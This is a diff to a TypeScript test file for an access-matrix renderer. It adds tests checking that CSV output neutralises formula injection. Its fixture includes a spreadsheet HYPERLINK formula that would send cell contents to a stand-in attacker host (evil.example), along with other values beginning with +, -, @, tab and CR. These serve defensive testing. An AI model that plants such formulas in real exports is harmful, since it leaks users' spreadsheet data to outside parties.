@@ -1,6 +1,7 @@
 /** The matrix renderings: grouped table, RFC 4180 CSV, escaped self-contained HTML. */
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
+import { csvField } from '../../../../src/adapters/render/csv.js';
 import { renderHtmlMatrix } from '../../../../src/adapters/render/html-matrix.js';
 import { renderMatrixCsv } from '../../../../src/adapters/render/matrix-csv.js';
 import { renderMatrixTable } from '../../../../src/adapters/render/matrix-table.js';
@@ -73,6 +74,50 @@ describe('CSV', () => {
       '"R&D ""<Core>"", Team",EntraGroup,entra:g1,g1,cluster-wide,secrets,,false,get:tls|db',
     );
     assert.equal(lines.at(-1), '');
+  });
+});
+
+describe('CSV formula injection (OWASP CSV Injection)', () => {
+  // Names come from RoleBindings, resourceNames and Entra display names: anyone who can
+  // name a group or an object can put a formula there.
+  const hostile: AccessMatrix = {
+    ...matrix,
+    subjects: [
+      {
+        kind: 'EntraGroup',
+        name: '+entra:g1',
+        displayName: '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        entraId: '@g1',
+        user: { name: '', groups: ['+entra:g1'] },
+      },
+    ],
+    rows: [
+      {
+        subject: 0,
+        scope: '-shop',
+        cells: [undefined, undefined, { verbs: [], anyVerb: false, limited: { get: ['x'] } }],
+        nonResourceURLs: { '\tget': ['\r/x'] },
+      },
+    ],
+  };
+
+  it('neutralises every cell that starts with = + - @ tab or CR, in every column', () => {
+    const lines = renderMatrixCsv(hostile).split('\r\n');
+    assert.equal(
+      lines[1],
+      `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",EntraGroup,'+entra:g1,'@g1,'-shop,secrets,,false,get:x`,
+    );
+    assert.equal(
+      lines[2],
+      `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",EntraGroup,'+entra:g1,'@g1,'-shop,"'\r/x",'\tget,false,`,
+    );
+  });
+
+  it('csvField leaves ordinary values alone and quotes separators', () => {
+    assert.equal(csvField('pods'), 'pods');
+    assert.equal(csvField('a,b'), '"a,b"');
+    assert.equal(csvField('-1'), "'-1");
+    assert.equal(csvField(''), '');
   });
 });
 
